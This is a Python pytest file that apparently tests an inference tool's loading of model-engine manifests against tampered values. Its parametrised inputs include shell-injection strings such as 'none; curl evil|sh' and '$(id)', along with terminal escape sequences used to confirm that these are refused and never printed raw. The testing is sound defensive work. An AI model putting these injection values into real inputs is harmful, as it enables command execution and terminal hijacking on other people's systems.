"""Manifests that somebody else wrote: no value reaches a terminal or a command unless it is of the vocabulary."""

from __future__ import annotations

import json
import shlex
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from random import Random
from typing import Any

import pytest
from command_line import run
from fake_cuda import FakeDevice
from fake_engines import CUDA13, engine_directory
from fake_tensorrt import FakeLibrary
from fuzzing.engines import hostile_manifest

from lsms_rt.engine import open_directory
from lsms_rt.engine.manifest import MANIFEST, fields_digest
from lsms_rt.engine.tensorrt.backend import TensorRtBackend
from lsms_rt.engine.tensorrt.variant import TENSORRT, VARIANTS
from lsms_rt.errors import EngineDigestError, EngineInvalidError, LsmsError

# Of a shell, without those that a sentence or path has anyway.
ACTED_ON = set("`$|;&<>\\")
INT8 = {
    "method": "minmax or percentile, per layer", "recipe_digest": "0" * 64, "slices_digest": "0" * 64,
    "int8_layers": {"text": 3, "image": 40}, "floating_point_layers": {"text": 1, "image": 2}, "macs_share": 0.93,
    "rest": "fp32",
}  # fmt: skip
GATE = {
    "passed": True, "failures": [], "unjudged": None, "unchecked": ["small lesions: too few"], "cases": 8,
    "sentences": 200, "dice": {"n": 165, "reference": 0.8, "engine": 0.79, "drop": 0.01},
    "dice_drop_interval": [-0.01, 0.02], "small": None, "emptiness": {"n": 5, "newly_painted": 0}, "area": None,
    "missed_reference": 0.1, "missed_engine": 0.1, "without_spacing": 0, "accepted": False, "max_dice_drop": 0.005,
    "data": "RefHL-Phantom, 8 cases of seed 1", "data_digest": "0" * 64, "measured_with": "onnxruntime 1.32.0",
    "report_sha256": "0" * 64, "of": "the graphs; the plans were not run: pycuda is not installed",
}  # fmt: skip
PLAN = {
    "hardware": "same-capability", "version_compatible": False, "workspace_mib": None, "optimization_level": 3,
    "platform": "Linux x86_64", "plugins": "sm_86", "kernels": {"why": "faster", "ms_per_slice": {"stock": 1.5}},
}  # fmt: skip
ACCURACY = {
    "slices": 64, "max_logit_difference": 1e-4, "mask_agreement": 1.0, "mask_dice": 1.0,
    "measured_with": "onnxruntime 1.32.0", "plans": {"slices": 3, "max_logit_difference": 0.1, "against": "its graphs"},
}  # fmt: skip
KEPT = {"image.onnx": {"operators": {"Softmax": 8}, "of": 700}, "why": "sums in float16 lose too much"}


@pytest.fixture
def engine(tmp_path: Path, demo_engine: Path) -> Path:
    """An INT8 engine of TensorRT plans with every field of a manifest filled."""
    directory, _ = engine_directory(
        tmp_path / "a.engine", demo_engine, TENSORRT, precision="int8", calibration=INT8, gate=GATE, plan_options=PLAN,
        accuracy=ACCURACY, kept_in_fp32=KEPT,
    )  # fmt: skip
    return directory.path


def edit(engine: Path, **changes: Any) -> None:
    """Change the manifest as somebody would who also corrects its digest."""
    values = json.loads((engine / MANIFEST).read_text()) | changes
    (engine / MANIFEST).write_text(json.dumps(values | {"manifest_digest": fields_digest(values)}))


def commands(message: str) -> Iterator[list[str]]:
    """The commands that a message names, in words."""
    for part in message.split("lsms-rt build-engine")[1:]:
        yield shlex.split(part.partition("; ")[0])


def test_what_a_build_writes_opens(engine: Path, capsys: pytest.CaptureFixture[str]) -> None:
    manifest = open_directory(engine).manifest
    assert (manifest.calibration, manifest.gate, manifest.plan_options) == (INT8, GATE, PLAN)
    assert manifest.rebuild == (
        "lsms-rt build-engine --checkpoint DIR --backend tensorrt --opt-batch 8 --hardware same-capability "
        "--calibration DIR --rest fp32 --precision int8 --image-size 64 --max-batch 4 -o NAME.engine"
    )
    code, out, _ = run(capsys, "inspect", str(engine))
    assert code == 0
    assert "gate: dice: drop" in out


EVIL = "none; curl evil|sh"
ESCAPE = "\x1b]0;owned\x07\x1b[2J"


@pytest.mark.parametrize(
    "evil", [EVIL, ESCAPE, "$(id)", "a\nb", "\u202egpj.exe", "x" * 2000, 10**400, [[1]], {"a": [{}]}]
)
@pytest.mark.parametrize(
    "field",
    ["preset", "backend", "backend_version", "precision", "orientation", "kernels", "crop", "compute_capability",
     "device_name", "target_capabilities", "calibration", "gate", "accuracy", "kept_in_fp32", "plan_options",
     "weights_note", "weights_digest", "built_by", "files", "profile", "hu_window", "threshold", "max_batch"],
)  # fmt: skip
def test_no_field_takes_whatever_it_is_given(
    engine: Path, field: str, evil: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    edit(engine, **{field: evil})
    harmless = isinstance(evil, str) and evil.isprintable() and len(evil) <= 200
    code, out, said = run(capsys, "inspect", str(engine))
    assert all(c.isprintable() or c == "\n" for c in out + said)
    # One line that names the weights may hold what it likes: it is part of no command.
    texts = ("preset", "weights_note", "built_by")
    plain = isinstance(evil, dict) and field in ("accuracy", "kept_in_fp32", "gate", "calibration", "plan_options")
    if (harmless and field in texts) or plain:
        return
    assert code == 4
    for refused in (EVIL, "curl", "$(id)", "owned"):
        assert refused not in said


@pytest.mark.parametrize(
    "changes",
    [
        {"plan_options": PLAN | {"hardware": EVIL}},
        {"plan_options": PLAN | {"version_compatible": "no"}},
        {"plan_options": PLAN | {"platform": "Linux x86_64; id"}},
        {"plan_options": PLAN | {"plugins": "sm_86; id"}},
        {"calibration": INT8 | {"rest": EVIL}},
        {"calibration": INT8 | {"int8_layers": {"text": EVIL}}},
        {"gate": GATE | {"passed": "yes"}},
        {"gate": GATE | {"failures": EVIL}},
        {"gate": GATE | {"new": {"deep": [ESCAPE]}}},
        {"gate": {ESCAPE: 1}},
        {"gate": {"dice": [[[[[[[[1]]]]]]]]}},
        {"accuracy": {"many": list(range(3000))}},
        {"accuracy": {"slices": float("nan")}},
        {"target_capabilities": [[1]]},
        {"target_capabilities": ["sm_86; id"]},
        {"device_name": 3},
        {"orientation": "rows: anterior to posterior; columns: patient's left to right"},
        {"compute_capability": [8]},
        {"compute_capability": "8"},
        {"profile": [8, 4, 1]},
        {"max_batch": True},
        {"max_batch": 1025, "profile": [1, 8, 1025]},
        {"max_batch": 9},
        {"image_size": 250},
        {"image_size": 1024, "profile": [1, 8, 1024]},
        {"channels": 8192, "image_size": 256},
        {"threshold": True},
        {"hu_window": [-1e308, 1e308]},
        {"files": {"a b": "0" * 64}},
        {"files": {"CON\x1b": "0" * 64}},
        {"format": True},
    ],
)
def test_nested_values_are_checked_too(engine: Path, changes: dict[str, Any]) -> None:
    edit(engine, **changes)
    with pytest.raises(EngineInvalidError) as caught:
        open_directory(engine)
    message = str(caught.value).removeprefix(str(engine))
    assert message.isprintable()
    assert "curl" not in message and "owned" not in message


def test_a_command_is_made_of_single_words_even_of_values_that_were_not_checked(engine: Path) -> None:
    manifest = open_directory(engine).manifest
    for evil, changes in (
        (EVIL, {"plan_options": {"hardware": EVIL}}),
        ("$(id)", {"calibration": {"rest": "$(id)"}}),
        ("`id`", {"precision": "`id`"}),
    ):
        words = shlex.split(replace(manifest, **changes).rebuild)
        assert words[:4] == ["lsms-rt", "build-engine", "--checkpoint", "DIR"]
        assert evil in words


def test_a_digest_that_is_no_digest_is_not_printed_as_it_is(engine: Path) -> None:
    with pytest.raises(EngineDigestError) as caught:
        open_directory(engine, "sha256:\x1b[2J" + "x" * 500)
    assert str(caught.value).isprintable()


def test_a_path_with_a_terminals_sequences_is_not_printed_as_it_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, said = run(capsys, "inspect", str(tmp_path / "a\x1b[2Jb.engine"))
    assert (code, "\x1b" in said) == (4, False)


@pytest.mark.parametrize("variant", VARIANTS.values(), ids=list(VARIANTS))
def test_hostile_manifests_are_refused_in_plain_words(
    variant: Any, tmp_path: Path, demo_engine: Path, capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    """A seeded fuzzer: every manifest is inspected, and opened with a TensorRT and GPU of NumPy."""
    filled = {"precision": "int8", "calibration": INT8, "gate": GATE, "plan_options": PLAN, "accuracy": ACCURACY}
    directory, plans = engine_directory(tmp_path / "a.engine", demo_engine, variant, **filled)
    seed, outcomes = json.loads((directory.path / MANIFEST).read_text()), dict[str, int]()
    for index in range(400):
        data = hostile_manifest(seed, Random(f"manifest {variant.name} {index}"))
        (directory.path / MANIFEST).write_bytes(data)
        kind = _refusal(lambda: _open(directory.path, plans), index)
        outcomes[kind] = outcomes.get(kind, 0) + 1
        code, out, said = run(capsys, "inspect", str(directory.path))
        assert code in (0, 4), f"{index}: {said}"
        assert all(c.isprintable() or c == "\n" for c in out + said), index
        assert code == 0 or not (ACTED_ON - {";"}) & set(said.replace(str(directory.path), "")), f"{index}: {said}"
    # The fuzzer reaches both sides.
    assert outcomes.get("opened", 0) > 20
    assert sum(outcomes.values()) - outcomes.get("opened", 0) > 100


def _open(path: Path, plans: dict[bytes, Any]) -> None:
    directory = open_directory(path)
    device = FakeDevice()
    if directory.manifest.backend not in VARIANTS:
        return
    library = FakeLibrary(device, plans, "10.3.0.26" if directory.manifest.backend == "tensorrt" else "1.7.1.116")
    TensorRtBackend(directory, driver=lambda: CUDA13, device=lambda *_: device, library=library)


def _refusal(call: Callable[[], None], index: int) -> str:
    try:
        call()
    except LsmsError as error:
        message = str(error)
        assert message.isprintable(), index
        assert "curl" not in message, f"{index}: {message}"
        for words in commands(message):
            assert not ACTED_ON & set("".join(words)), f"{index}: {message}"
        return type(error).__name__
    return "opened"


def test_the_search_for_commands_finds_them() -> None:
    assert list(commands("refused; rebuild it: lsms-rt build-engine --rest fp16; see")) == [["--rest", "fp16"]]
